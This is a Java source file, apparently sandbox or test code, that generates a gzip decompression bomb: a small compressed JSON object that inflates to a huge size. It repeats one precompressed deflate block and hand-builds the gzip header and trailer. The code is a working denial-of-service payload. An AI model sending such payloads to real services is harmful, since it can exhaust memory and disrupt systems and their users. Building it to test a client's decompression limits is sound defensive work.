package io.safire.sandbox;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Arrays;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * A compressed JSON object that is small on the wire and large when inflated. One block is compressed once and then
 * repeated (RFC 1951 allows independent blocks; RFC 1952 defines the header and trailer). Compressing the whole object
 * would take longer than the timeout of some clients.
 */
final class GzipBomb {

    private static final int BLOCK_BYTES = 1 << 16;
    private static final byte[] HEADER = {0x1f, (byte) 0x8b, Deflater.DEFLATED, 0, 0, 0, 0, 0, 0, (byte) 0xff};
    private static final int MAX_COMPRESSED_BLOCK_BYTES = 1024;

    private final ByteArrayOutputStream output = new ByteArrayOutputStream();
    private final CRC32 checksum = new CRC32();
    private int length;

    private GzipBomb() {}

    /**
     * Returns the compressed object.
     *
     * @param filler the number of characters in the only member of the object
     */
    static byte[] of(int filler) {
        GzipBomb bomb = new GzipBomb();
        bomb.output.writeBytes(HEADER);
        bomb.append("{\"filler\":\"".getBytes(US_ASCII), 1, Deflater.FULL_FLUSH);
        byte[] block = new byte[BLOCK_BYTES];
        Arrays.fill(block, (byte) 'x');
        bomb.append(block, filler / BLOCK_BYTES, Deflater.FULL_FLUSH);
        bomb.append(Arrays.copyOf(block, filler % BLOCK_BYTES), 1, Deflater.FULL_FLUSH);
        bomb.append("\"}".getBytes(US_ASCII), 1, Deflater.NO_FLUSH);
        ByteBuffer trailer = ByteBuffer.allocate(8).order(ByteOrder.LITTLE_ENDIAN);
        trailer.putInt((int) bomb.checksum.getValue()).putInt(bomb.length);
        bomb.output.writeBytes(trailer.array());
        return bomb.output.toByteArray();
    }

    /**
     * Appends a text the given number of times. With the flush mode {@code NO_FLUSH}, this text is the end of the data.
     */
    private void append(byte[] text, int times, int flush) {
        byte[] compressed = compress(text, flush);
        for (int time = 0; time < times; time++) {
            output.writeBytes(compressed);
            checksum.update(text);
            length += text.length;
        }
    }

    private static byte[] compress(byte[] text, int flush) {
        Deflater deflater = new Deflater(Deflater.DEFAULT_COMPRESSION, true);
        try {
            deflater.setInput(text);
            if (flush == Deflater.NO_FLUSH) {
                deflater.finish();
            }
            byte[] compressed = new byte[MAX_COMPRESSED_BLOCK_BYTES];
            return Arrays.copyOf(compressed, deflater.deflate(compressed, 0, compressed.length, flush));
        } finally {
            deflater.end();
        }
    }
}
